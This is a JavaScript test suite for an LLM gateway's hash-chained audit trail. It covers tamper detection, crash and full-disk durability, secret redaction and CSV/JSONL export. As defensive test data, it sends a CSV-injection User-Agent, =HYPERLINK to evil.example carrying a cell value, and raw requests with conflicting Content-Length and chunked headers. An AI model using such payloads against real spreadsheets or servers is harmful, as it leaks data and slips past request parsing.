// The audit trail: one record for every request (rejected ones included) and every admin action,
// written before the response's last byte (strict durability), hash-chained, and checked by
// `tollgatectl audit verify`, which names the first bad record after edits, deletions,
// reorderings, truncations and torn lines. kill -9 under load loses no record of a response a
// client received in full; a full disk fails calls closed and loses no record.
import assert from 'node:assert/strict';
import { execFile, spawnSync } from 'node:child_process';
import {
  appendFileSync,
  cpSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';

import {
  GATEWAY_BIN,
  assertOpenAIError,
  eventually,
  fetchT,
  postJson,
  rawExchange,
  readResponse,
  serverYaml,
  startGateway,
} from './lib/gateway.mjs';
import { admin, adminToken, chat, metricValue, scrape, staticKey } from './lib/policy_helpers.mjs';
import { readSse } from './lib/sse.mjs';

const CTL = process.env.TOLLGATECTL_BIN ?? join(dirname(GATEWAY_BIN), 'tollgatectl');

/** Runs tollgatectl; resolves `{code, stdout, stderr}`. */
function ctl(args, { env = {} } = {}) {
  return new Promise((resolve) => {
    execFile(CTL, args, { env: { ...process.env, ...env }, maxBuffer: 64 << 20 }, (err, stdout, stderr) =>
      resolve({ code: err ? err.code : 0, stdout, stderr }),
    );
  });
}

/** verify --json of `dir`: `{code, report}`. */
async function verify(dir) {
  const r = await ctl(['audit', 'verify', '--dir', dir, '--json']);
  let report;
  try {
    report = JSON.parse(r.stdout);
  } catch {
    assert.fail(`verify printed no JSON (exit ${r.code}): ${r.stdout} ${r.stderr}`);
  }
  return { code: r.code, report };
}

/** The segment files of `dir` in chain order, and all their records. */
function segments(dir) {
  return readdirSync(dir)
    .filter((f) => f.endsWith('.jsonl'))
    .sort()
    .map((f) => join(dir, f));
}
function records(dir) {
  const out = [];
  for (const f of segments(dir))
    for (const line of readFileSync(f, 'utf8').split('\n')) {
      if (!line) continue;
      try {
        out.push(JSON.parse(line));
      } catch {
        /* a torn last line: verify's business */
      }
    }
  return out;
}
function auditText(dir) {
  return readdirSync(dir)
    .map((f) => readFileSync(join(dir, f), 'utf8'))
    .join('\n');
}

const ka = staticKey('auditka');
const kb = staticKey('auditkb');
const adm = adminToken('ops');

function yamlFor(auditDir, { instance = 'gw1', extraAudit = '', limits = {} } = {}) {
  return `auth:
  required: true
  admin_tokens:
${adm.yaml}prices:
  "mock-*": {input: 1, cached_input: 0.5, output: 2}
audit:
  dir: ${auditDir}
  instance: ${instance}
${extraAudit}teams:
  - name: t1
  - name: tiny
    limits: {rpm: 1}
keys:
  - {id: ${ka.id}, team: t1, digest: "${ka.digest}", models: ["mock-gpt", "mock-paced"]}
  - {id: ${kb.id}, team: tiny, digest: "${kb.digest}"}
${serverYaml({ openAuth: false, freePrices: false, limits })}providers:
  - {name: mock, type: mock, ttft_ms: 2, tokens_per_second: 5000}
  - {name: mock-paced, type: mock, ttft_ms: 5, tokens_per_second: 40, completion_tokens: 200}
models:
  - {name: mock-gpt, provider: mock}
  - {name: mock-other, provider: mock}
  - {name: mock-paced, provider: mock-paced}
`;
}

const body = (model, extra = {}) => ({ model, messages: [{ role: 'user', content: 'hello audit' }], ...extra });
const tmp = (p) => mkdtempSync(join(tmpdir(), p));

describe('audit trail', () => {
  let auditDir;
  let gw;
  const expected = []; // {id, status, code, team, key_id, what}
  before(async () => {
    auditDir = join(tmp('tollgate-audit-'), 'trail');
    gw = await startGateway(yamlFor(auditDir, { limits: { max_body_bytes: 4096 } }));
  });
  after(async () => {
    if (gw) await gw.stop();
    rmSync(dirname(auditDir), { recursive: true, force: true });
  });

  test('every request has exactly one record, rejected ones included; no secret or digest in it', async () => {
    const push = (what, r, status, code, team = null, key_id = null) => {
      assert.equal(r.status, status, `${what}: ${r.status} ${r.text?.slice(0, 300)}`);
      const id = r.headers.get('x-request-id');
      assert.ok(id, `${what}: x-request-id`);
      expected.push({ id, status, code, team, key_id, what });
    };
    push('ok', await chat(gw, ka.full, body('mock-gpt')), 200, null, 't1', ka.id);
    {
      const r = await fetchT(`${gw.baseURL}/chat/completions`, {
        method: 'POST',
        headers: { authorization: `Bearer ${ka.full}`, 'content-type': 'application/json' },
        body: JSON.stringify(body('mock-gpt', { stream: true })),
      });
      const sse = await readSse(r);
      assert.ok(sse.ended && sse.done && sse.events.length > 1);
      expected.push({ id: r.headers.get('x-request-id'), status: 200, code: null, team: 't1', key_id: ka.id, what: 'stream' });
    }
    push('no key', await chat(gw, undefined, body('mock-gpt')), 401, 'invalid_api_key');
    push('wrong secret', await chat(gw, `tg_${ka.id}_${'x'.repeat(40)}`, body('mock-gpt')), 401, 'invalid_api_key');
    push('model not allowed', await chat(gw, ka.full, body('mock-other')), 403, 'model_not_allowed', 't1', ka.id);
    push('rpm ok', await chat(gw, kb.full, body('mock-gpt')), 200, null, 'tiny', kb.id);
    push('rpm refused', await chat(gw, kb.full, body('mock-gpt')), 429, 'rate_limit_exceeded', 'tiny', kb.id);
    push('bad json', await postJson(`${gw.baseURL}/chat/completions`, '{"model":', { headers: { authorization: `Bearer ${ka.full}` } }), 400, 'invalid_json', 't1', ka.id);
    push('unknown model', await chat(gw, ka.full, body('no-such-model')), 404, 'model_not_found', 't1', ka.id);
    push('too large', await chat(gw, ka.full, body('mock-gpt', { pad: 'x'.repeat(8000) })), 413, 'request_too_large');
    push('wrong method', await readResponse(await fetchT(`${gw.baseURL}/chat/completions`)), 405, 'method_not_allowed');
    // A malformed HTTP request is answered (and audited) before the pipeline.
    const raw = await rawExchange(gw.port, ['GET /v1/models HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n']);
    assert.match(raw.text, /^HTTP\/1\.1 400/);
    // A stream the client cuts: recorded as billed, with its status and the disconnect.
    {
      const ac = new AbortController();
      const r = await fetchT(`${gw.baseURL}/chat/completions`, {
        method: 'POST',
        signal: ac.signal,
        headers: { authorization: `Bearer ${ka.full}`, 'content-type': 'application/json' },
        body: JSON.stringify(body('mock-paced', { stream: true })),
      });
      const id = r.headers.get('x-request-id');
      const reader = r.body.getReader();
      await reader.read();
      ac.abort();
      expected.push({ id, status: 200, code: null, team: 't1', key_id: ka.id, what: 'cut stream', cut: true });
    }
    // Health checks are not calls: no record.
    const health = await fetchT(`${gw.url}/healthz`);
    assert.equal(health.status, 200);
    const healthId = health.headers.get('x-request-id');

    const recs = await eventually(() => {
      const all = records(auditDir).filter((r) => r.type === 'call');
      return expected.every((e) => all.some((r) => r.id === e.id)) ? all : undefined;
    }, { what: 'a record for every request' });
    for (const e of expected) {
      const mine = recs.filter((r) => r.id === e.id);
      assert.equal(mine.length, 1, `${e.what}: exactly one record, got ${mine.length}`);
      const r = mine[0];
      assert.equal(r.status, e.status, e.what);
      assert.equal(r.error_code, e.code, e.what);
      assert.equal(r.team, e.team, e.what);
      assert.equal(r.key_id, e.key_id, e.what);
      assert.equal(r.client, '127.0.0.1', e.what);
      for (const f of ['time', 'start_ms', 'end_ms', 'latency_us', 'first_byte_ms', 'prompt_tokens', 'cached_tokens', 'cache_write_tokens',
        'completion_tokens', 'cost_usd', 'cost_nano', 'stream', 'retries', 'filters', 'provider', 'upstream_model', 'user_agent'])
        assert.ok(f in r, `${e.what}: field ${f}`);
      assert.ok(r.end_ms >= r.start_ms, e.what);
    }
    const ok = recs.find((r) => r.id === expected[0].id);
    assert.equal(ok.provider, 'mock');
    assert.equal(ok.model, 'mock-gpt');
    assert.ok(ok.completion_tokens > 0 && ok.prompt_tokens > 0);
    // Prices: input $1/M, output $2/M, in exact nano-USD.
    assert.equal(ok.cost_nano, ok.prompt_tokens * 1000 + ok.completion_tokens * 2000);
    const stream = recs.find((r) => r.id === expected[1].id);
    assert.equal(stream.stream, true);
    assert.ok(stream.ttft_us > 0);
    const cut = recs.find((r) => r.id === expected.find((e) => e.cut).id);
    assert.equal(cut.details, 'client_disconnected');
    assert.ok(cut.completion_tokens > 0 && cut.cost_nano > 0, 'a cut stream is billed for what was relayed');
    assert.ok(recs.some((r) => r.status === 400 && r.details && r.path === ''), 'the malformed request has a record');
    // A body refused for its size was read past its head: its record names what was asked.
    const tooLarge = recs.find((r) => r.id === expected.find((e) => e.what === 'too large').id);
    assert.deepEqual([tooLarge.method, tooLarge.path], ['POST', '/v1/chat/completions']);
    assert.ok(!recs.some((r) => r.id === healthId), 'health checks are not audited');

    const text = auditText(auditDir);
    for (const k of [ka, kb]) {
      assert.ok(!text.includes(k.secret), 'a key secret in the audit trail');
      assert.ok(!text.includes(k.hex), 'a key digest in the audit trail');
    }
  });

  test('admin actions are recorded with the admin identity; a wrong token is recorded as 401', async () => {
    const bad = await admin(gw, 'not-a-token', 'POST', '/admin/v1/keys', { team: 't1' });
    assert.equal(bad.status, 401);
    const created = await admin(gw, adm.token, 'POST', '/admin/v1/keys', { team: 't1', name: 'audited' });
    assert.equal(created.status, 201);
    const revoked = await admin(gw, adm.token, 'DELETE', `/admin/v1/keys/${created.json.id}`);
    assert.equal(revoked.status, 200);
    // Refused before the admin API saw them (a body over the limit, a malformed request): audited
    // as admin requests all the same.
    const huge = await admin(gw, adm.token, 'POST', '/admin/v1/keys', { team: 't1', name: 'x'.repeat(8000) });
    assert.equal(huge.status, 413);
    const malformed = await rawExchange(gw.adminPort, ['POST /admin/v1/keys HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n']);
    assert.match(malformed.text, /^HTTP\/1\.1 400/);
    const recs = await eventually(() => {
      const a = records(auditDir).filter((r) => r.type === 'admin');
      return a.length >= 5 ? a : undefined;
    }, { what: 'five admin records' });
    const large = recs.find((r) => r.id === huge.headers.get('x-request-id'));
    assert.deepEqual([large?.status, large?.method, large?.path, large?.error_code], [413, 'POST', '/admin/v1/keys', 'request_too_large']);
    assert.ok(recs.some((r) => r.status === 400 && r.path === '' && r.details), 'the malformed admin request has a record');
    const unauth = recs.find((r) => r.id === bad.headers.get('x-request-id'));
    assert.equal(unauth.status, 401);
    assert.equal(unauth.admin, null);
    assert.equal(unauth.action, 'key.create');
    const create = recs.find((r) => r.id === created.headers.get('x-request-id'));
    assert.deepEqual([create.status, create.admin, create.action, create.target], [201, 'ops', 'key.create', created.json.id]);
    const revoke = recs.find((r) => r.id === revoked.headers.get('x-request-id'));
    assert.deepEqual([revoke.status, revoke.admin, revoke.action, revoke.target], [200, 'ops', 'key.revoke', created.json.id]);
    const text = auditText(auditDir);
    const secret = created.json.key.split('_')[2];
    assert.ok(!text.includes(secret), 'a created key secret in the audit trail');
    assert.ok(!text.includes(adm.token) && !text.includes(adm.hex), 'the admin token in the audit trail');
  });

  test('a clean stop closes the chain: verify OK, export as JSON Lines and CSV with filters', async () => {
    // An admin request whose User-Agent is no UTF-8 (0xff): its record must stay JSON text that
    // the export reads, not be skipped by it (it was written raw, and the export dropped it).
    const rawUa = await rawExchange(gw.adminPort, [Buffer.concat([
      Buffer.from('GET /admin/v1/keys HTTP/1.1\r\nHost: x\r\nUser-Agent: probe-'), Buffer.from([0xff, 0xfe]),
      Buffer.from('\r\nConnection: close\r\n\r\n')])], { timeoutMs: 4000, stopWhenComplete: true });
    assert.equal(rawUa.response?.status, 401, rawUa.text);
    // A User-Agent a spreadsheet would run as a formula: the CSV export keeps it text.
    const formulaUa = await rawExchange(gw.adminPort, [Buffer.from(
      'GET /admin/v1/keys HTTP/1.1\r\nHost: x\r\nUser-Agent: =HYPERLINK("http://evil.example/"&A1)\r\nConnection: close\r\n\r\n')],
    { timeoutMs: 4000, stopWhenComplete: true });
    assert.equal(formulaUa.response?.status, 401, formulaUa.text);
    await eventually(() => records(auditDir).some((r) => String(r.user_agent).startsWith('probe-')), { what: 'the probe audited' });
    await eventually(() => records(auditDir).some((r) => String(r.user_agent).startsWith('=HYPERLINK')), { what: 'the formula audited' });
    await gw.stopClean();
    gw = undefined;
    const { code, report } = await verify(auditDir);
    assert.equal(code, 0, JSON.stringify(report));
    assert.ok(report.ok && report.records >= expected.length + 5);
    const recs = records(auditDir);
    assert.equal(recs[0].type, 'start');
    assert.equal(recs.at(-1).type, 'stop');
    recs.forEach((r, i) => assert.equal(r.seq, i + 1));

    const all = await ctl(['audit', 'export', '--dir', auditDir]);
    assert.equal(all.code, 0, all.stderr);
    assert.equal(all.stdout.trim().split('\n').length, recs.length, all.stderr);
    assert.ok(all.stdout.includes('"user_agent":"probe-\ufffd\ufffd"'), 'the probe exported, its bytes replaced');
    const team = await ctl(['audit', 'export', '--dir', auditDir, '--team', 'tiny', '--format', 'csv']);
    assert.equal(team.code, 0, team.stderr);
    const rows = team.stdout.trim().split('\n');
    assert.match(rows[0], /^instance,seq,type,id,time,team,key_id/);
    // Every count a cost is made of is exported, so a row's cost can be checked from the row.
    assert.match(rows[0], /,prompt_tokens,cached_tokens,cache_write_tokens,completion_tokens,cost_usd,/);
    assert.equal(rows.length, 1 + 2, team.stdout);
    assert.ok(rows.slice(1).every((r) => r.split(',')[5] === 'tiny'));
    const everything = await ctl(['audit', 'export', '--dir', auditDir, '--format', 'csv']);
    assert.equal(everything.code, 0, everything.stderr);
    assert.ok(everything.stdout.includes(',"\'=HYPERLINK(""http://evil.example/""&A1)",'), everything.stdout);
    assert.ok(!/,=HYPERLINK/.test(everything.stdout));
    const future = await ctl(['audit', 'export', '--dir', auditDir, '--from', '2999-01-01T00:00:00Z']);
    assert.equal(future.code, 0);
    assert.equal(future.stdout, '');
    const bad = await ctl(['audit', 'export', '--dir', auditDir, '--from', 'yesterday']);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /RFC 3339/);
    const missing = await ctl(['audit', 'verify', '--dir', join(auditDir, 'nope')]);
    assert.equal(missing.code, 4);
    // -o writes owner-only, as the segments are; a cut last line is not exported silently.
    const outFile = join(dirname(auditDir), 'export.jsonl');
    const toFile = await ctl(['audit', 'export', '--dir', auditDir, '-o', outFile]);
    assert.equal(toFile.code, 0, toFile.stderr);
    assert.equal(statSync(outFile).mode & 0o777, 0o600);
    const seg = segments(auditDir).at(-1);
    const whole = readFileSync(seg);
    writeFileSync(seg, whole.subarray(0, whole.length - 20));
    const cut = await ctl(['audit', 'export', '--dir', auditDir]);
    assert.equal(cut.code, 0, cut.stderr);
    assert.equal(cut.stdout.trim().split('\n').length, recs.length - 1);
    assert.match(cut.stderr, /skipped a partial last line in .*\(\d+ bytes\)/);
    // Edited records whose time is no integer are skipped and counted, not the end of the
    // export; a cost no 64-bit count holds leaves its CSV cell empty.
    writeFileSync(seg, Buffer.concat([whole, Buffer.from(
      '{"seq":900,"type":"call","start_ms":1.5}\n{"seq":901,"type":"call","start_ms":1e30}\n' +
      `{"seq":902,"type":"call","start_ms":${Date.now()},"team":"edited","cost_nano":1e30}\n`)]));
    const edited = await ctl(['audit', 'export', '--dir', auditDir]);
    assert.equal(edited.code, 0, edited.stderr);
    assert.equal(edited.stdout.trim().split('\n').length, recs.length + 1, edited.stderr);
    assert.match(edited.stderr, /skipped 2 line\(s\) that are not audit records/);
    const editedCsv = await ctl(['audit', 'export', '--dir', auditDir, '--format', 'csv', '--team', 'edited']);
    assert.equal(editedCsv.code, 0, editedCsv.stderr);
    const editedRows = editedCsv.stdout.trim().split('\n');
    assert.equal(editedRows.length, 2, editedCsv.stdout);
    const costAt = editedRows[0].split(',').indexOf('cost_usd');
    assert.equal(editedRows[1].split(',')[costAt], '', editedRows[1]);
    writeFileSync(seg, whole);
  });
});


describe('audit verify names the first bad record', () => {
  let base;
  before(async () => {
    // A trail of several segments (segments of at most 4 KiB), closed cleanly.
    base = join(tmp('tollgate-audit-tamper-'), 'trail');
    const gw = await startGateway(yamlFor(base, { extraAudit: '  segment_max_bytes: 4096\n' }));
    for (let i = 0; i < 24; ++i) assert.equal((await chat(gw, ka.full, body('mock-gpt'))).status, 200);
    await gw.stopClean();
    assert.ok(segments(base).length >= 3, 'several segments');
    const { code, report } = await verify(base);
    assert.equal(code, 0, JSON.stringify(report));
  });
  after(() => rmSync(dirname(base), { recursive: true, force: true }));

  /** Copies the trail, applies `tamper(dir, segmentFiles)`, verifies; asserts exit 6 and returns the problem. */
  async function tampered(tamper) {
    const dir = join(tmp('tollgate-audit-t-'), 'trail');
    cpSync(base, dir, { recursive: true });
    tamper(dir, segments(dir));
    const { code, report } = await verify(dir);
    rmSync(dirname(dir), { recursive: true, force: true });
    assert.equal(code, 6, JSON.stringify(report));
    assert.equal(report.ok, false);
    return report.problem;
  }
  const lines = (f) => readFileSync(f, 'utf8').split('\n').slice(0, -1);
  const write = (f, ls) => writeFileSync(f, ls.map((l) => l + '\n').join(''));

  test('an edited field', async () => {
    const p = await tampered((dir, segs) => {
      const ls = lines(segs[0]);
      assert.match(ls[2], /"status":200/);
      ls[2] = ls[2].replace('"status":200', '"status":500');
      write(segs[0], ls);
    });
    assert.equal(p.kind, 'edited');
    assert.equal(p.seq, 3);
    assert.equal(p.line, 3);
  });

  test('a deleted record', async () => {
    const p = await tampered((dir, segs) => {
      const ls = lines(segs[0]);
      ls.splice(2, 1);
      write(segs[0], ls);
    });
    assert.equal(p.kind, 'deleted');
    assert.match(p.message, /\b3\b.*missing/);
  });

  test('two records swapped', async () => {
    const p = await tampered((dir, segs) => {
      const ls = lines(segs[0]);
      [ls[2], ls[3]] = [ls[3], ls[2]];
      write(segs[0], ls);
    });
    assert.equal(p.kind, 'reordered');
    assert.equal(p.seq, 4);
  });

  test('a segment cut in the middle of a record', async () => {
    const p = await tampered((dir, segs) => {
      const text = readFileSync(segs[1], 'utf8');
      // Halfway through the record that holds the segment's midpoint. (Cutting at the midpoint
      // itself landed just after a newline once in a CI run: no record was cut, the segment only
      // ended early, and verify rightly called the missing records deleted.)
      const start = text.lastIndexOf('\n', Math.floor(text.length / 2)) + 1;
      const end = text.indexOf('\n', start);
      assert.ok(end - start > 2, 'a record of a few bytes at least');
      writeFileSync(segs[1], text.slice(0, start + Math.floor((end - start) / 2)));
    });
    assert.ok(['torn', 'truncated'].includes(p.kind), JSON.stringify(p));
    assert.match(p.segment, /\.jsonl$/);
  });

  test('a whole segment deleted', async () => {
    const p = await tampered((dir, segs) => unlinkSync(segs[1]));
    assert.equal(p.kind, 'deleted');
  });

  test('the last records removed (caught by the checkpoint)', async () => {
    const p = await tampered((dir, segs) => {
      const last = segs.at(-1);
      const ls = lines(last);
      write(last, ls.slice(0, -2));
    });
    assert.equal(p.kind, 'truncated');
  });

  test('the last record edited (caught by the checkpoint)', async () => {
    const p = await tampered((dir, segs) => {
      const last = segs.at(-1);
      const ls = lines(last);
      ls[ls.length - 1] = ls.at(-1).replace('"type":"stop"', '"type":"stop","x":1');
      write(last, ls);
    });
    assert.equal(p.kind, 'edited');
  });

  test('a torn last line', async () => {
    const p = await tampered((dir, segs) => appendFileSync(segs.at(-1), '{"seq":9999,"prev":"ab'));
    assert.equal(p.kind, 'torn');
  });
});

describe('durability', () => {
  test('kill -9 under load (strict): every response received in full has its record; a torn tail is reported, then recovered', { timeout: 60000 }, async () => {
    const dir = join(tmp('tollgate-audit-kill-'), 'trail');
    const gw = await startGateway(yamlFor(dir, { instance: 'killed' }));
    const complete = [];
    let stop = false;
    const loop = async (n) => {
      for (let i = 0; !stop; ++i) {
        const stream = (n + i) % 3 === 0;
        try {
          const r = await fetchT(`${gw.baseURL}/chat/completions`, {
            method: 'POST',
            headers: { authorization: `Bearer ${ka.full}`, 'content-type': 'application/json' },
            body: JSON.stringify(body('mock-gpt', stream ? { stream: true } : {})),
          });
          const id = r.headers.get('x-request-id');
          const text = await r.text(); // resolves only when the response ended properly
          if (r.status === 200 && (stream ? text.includes('data: [DONE]') : JSON.parse(text).choices)) complete.push(id);
        } catch {
          return; // the gateway died mid-response: this one did not arrive in full
        }
      }
    };
    const loops = Array.from({ length: 16 }, (_, n) => loop(n));
    await eventually(() => complete.length >= 300, { timeoutMs: 30000, what: '300 complete responses' });
    gw.signal('SIGKILL');
    stop = true;
    await Promise.all(loops);
    await gw.exited;

    const ids = new Set(records(dir).filter((r) => r.type === 'call').map((r) => r.id));
    const missing = complete.filter((id) => !ids.has(id));
    assert.deepEqual(missing, [], `${missing.length} of ${complete.length} complete responses have no record`);

    // What is on disk verifies, except possibly a torn last line, which must be reported as such.
    let { code, report } = await verify(dir);
    if (code !== 0) assert.equal(report.problem.kind, 'torn', JSON.stringify(report));
    // Make the torn tail certain (a crash in the middle of a write), and check it is reported...
    const last = segments(dir).at(-1);
    appendFileSync(last, '{"seq":123456,"prev":"00');
    ({ code, report } = await verify(dir));
    assert.equal(code, 6);
    assert.equal(report.problem.kind, 'torn');
    // ...then a restart of the same instance records the recovery, and the chain verifies again.
    const again = await startGateway(yamlFor(dir, { instance: 'killed' }));
    assert.equal((await chat(again, ka.full, body('mock-gpt'))).status, 200);
    await again.stopClean();
    ({ code, report } = await verify(dir));
    assert.equal(code, 0, JSON.stringify(report));
    assert.ok(report.notes.some((n) => /torn bytes/.test(n)), JSON.stringify(report.notes));
    const start = records(dir).filter((r) => r.type === 'start').at(-1);
    assert.equal(start.recovered.segment, last.split('/').at(-1));
    rmSync(dirname(dir), { recursive: true, force: true });
  });

  test('a full disk fails calls closed (503 audit_unavailable), loses no record, and recovers by itself', { timeout: 60000 }, async () => {
    const dir = join(tmp('tollgate-audit-full-'), 'trail');
    // RLIMIT_FSIZE stands in for a full disk: writes past 6 KB fail with EFBIG.
    const gw = await startGateway(yamlFor(dir, { instance: 'full' }), { wrap: ['prlimit', '--fsize=6000:unlimited', '--'] });
    try {
      const ids = [];
      let refused;
      let cut = 0;
      for (let i = 0; i < 40 && !refused; ++i) {
        let r;
        try {
          r = await chat(gw, ka.full, body('mock-gpt'));
        } catch {
          ++cut; // the call whose record failed: its response was cut before the last byte
          continue;
        }
        ids.push(r.headers.get('x-request-id'));
        if (r.status === 503) refused = r;
        else assert.equal(r.status, 200, r.text);
      }
      assert.ok(refused, 'calls are refused once the audit trail cannot be written');
      assertOpenAIError(refused, { status: 503, code: 'audit_unavailable' });
      assert.equal(refused.headers.get('retry-after'), '1');
      await gw.waitForStderr(/audit: writes fail/);
      assert.equal(metricValue(await scrape(gw), 'tollgate_audit_degraded'), 1);
      assert.ok(gw.alive);
      // The admin API fails closed too (no key is made, no secret shown), reads included (each is
      // audited); /metrics goes on (read above).
      const change = await admin(gw, adm.token, 'POST', '/admin/v1/keys', { team: 't1', name: 'while full' });
      assertOpenAIError(change, { status: 503, code: 'audit_unavailable' });
      assert.equal(change.json.key, undefined);
      assertOpenAIError(await admin(gw, adm.token, 'GET', '/admin/v1/keys?team=t1'), { status: 503, code: 'audit_unavailable' });
      // Space comes back: the held records are written, calls are admitted again.
      const res = spawnSync('prlimit', ['--pid', String(gw.pid), '--fsize=unlimited']);
      assert.equal(res.status, 0, String(res.stderr));
      const ok = await eventually(async () => {
        const r = await chat(gw, ka.full, body('mock-gpt'));
        return r.status === 200 ? r : undefined;
      }, { timeoutMs: 5000, what: 'calls admitted again' });
      ids.push(ok.headers.get('x-request-id'));
      assert.equal((await admin(gw, adm.token, 'POST', '/admin/v1/keys', { team: 't1', name: 'after' })).status, 201);
      const m = await scrape(gw);
      assert.equal(metricValue(m, 'tollgate_audit_degraded'), 0);
      assert.ok(metricValue(m, 'tollgate_audit_records_total', { result: 'late' }) >= 1);
      assert.equal(metricValue(m, 'tollgate_audit_records_total', { result: 'dropped' }), 0);
      await gw.stopClean();
      const recs = records(dir);
      for (const id of ids) assert.ok(recs.some((r) => r.id === id), `record of ${id}`);
      assert.ok(recs.some((r) => r.late === true && r.error_code === 'audit_unavailable'), 'the 503s are recorded, late');
      // The first record that failed was a call's (only calls were made): its caller was cut, and
      // its late record says the answer it records was withheld; the 503s went out, so are not.
      assert.ok(cut >= 1, 'a call was cut');
      assert.equal(recs.filter((r) => r.withheld === true && r.type === 'call' && r.status === 200).length, cut);
      assert.ok(!recs.some((r) => r.withheld === true && r.error_code === 'audit_unavailable'));
      const { code, report } = await verify(dir);
      assert.equal(code, 0, JSON.stringify(report));
    } finally {
      await gw.stop();
      rmSync(dirname(dir), { recursive: true, force: true });
    }
  });

  test('on_error: fail_open keeps calls going while writes fail; their records are written late', { timeout: 60000 }, async () => {
    const dir = join(tmp('tollgate-audit-open-'), 'trail');
    const gw = await startGateway(yamlFor(dir, { instance: 'open', extraAudit: '  on_error: fail_open\n' }),
      { wrap: ['prlimit', '--fsize=4000:unlimited', '--'] });
    try {
      const ids = [];
      for (let i = 0; i < 15; ++i) {
        const r = await chat(gw, ka.full, body('mock-gpt'));
        assert.equal(r.status, 200, r.text);
        ids.push(r.headers.get('x-request-id'));
      }
      await gw.waitForStderr(/audit: writes fail; calls continue/);
      assert.equal(metricValue(await scrape(gw), 'tollgate_audit_degraded'), 1);
      assert.equal(spawnSync('prlimit', ['--pid', String(gw.pid), '--fsize=unlimited']).status, 0);
      await eventually(async () => metricValue(await scrape(gw), 'tollgate_audit_degraded') === 0, { what: 'writes work again' });
      await gw.stopClean();
      const recs = records(dir);
      for (const id of ids) assert.ok(recs.some((r) => r.id === id), `record of ${id}`);
      assert.ok(recs.some((r) => r.late === true), 'some records were written late');
      const { code, report } = await verify(dir);
      assert.equal(code, 0, JSON.stringify(report));
    } finally {
      await gw.stop();
      rmSync(dirname(dir), { recursive: true, force: true });
    }
  });
});

describe('text capture (teams[].capture_text)', () => {
  test('records of a capturing team carry the prompt and the answer text; others carry none', { timeout: 30000 }, async () => {
    const dir = join(tmp('tollgate-audit-capture-'), 'trail');
    const cap = staticKey('capkey1');
    const yaml = yamlFor(dir, { instance: 'cap' })
      .replace('  - name: tiny\n', `  - name: talky\n    capture_text: true\n  - name: tiny\n`)
      .replace('keys:\n', `keys:\n  - {id: ${cap.id}, team: talky, digest: "${cap.digest}"}\n`);
    const gw = await startGateway(yaml);
    try {
      const whole = await chat(gw, cap.full, body('mock-gpt'));
      assert.equal(whole.status, 200);
      const s = await fetchT(`${gw.baseURL}/chat/completions`, {
        method: 'POST',
        headers: { authorization: `Bearer ${cap.full}`, 'content-type': 'application/json' },
        body: JSON.stringify(body('mock-gpt', { stream: true })),
      });
      const sse = await readSse(s);
      const streamed = sse.events.filter((e) => e.json?.choices?.[0]?.delta?.content).map((e) => e.json.choices[0].delta.content).join('');
      const quiet = await chat(gw, ka.full, body('mock-gpt'));
      assert.equal(quiet.status, 200);
      await gw.stopClean();
      const recs = records(dir).filter((r) => r.type === 'call');
      const w = recs.find((r) => r.id === whole.headers.get('x-request-id'));
      assert.deepEqual(w.prompt, body('mock-gpt').messages);
      assert.equal(w.response, whole.json.choices[0].message.content);
      const st = recs.find((r) => r.id === s.headers.get('x-request-id'));
      assert.ok(streamed.length > 0);
      assert.equal(st.response, streamed);
      const q = recs.find((r) => r.id === quiet.headers.get('x-request-id'));
      assert.ok(!('prompt' in q) && !('response' in q), 'a team without capture_text: no text');
      const { code, report } = await verify(dir);
      assert.equal(code, 0, JSON.stringify(report));
    } finally {
      await gw.stop();
      rmSync(dirname(dir), { recursive: true, force: true });
    }
  });
});
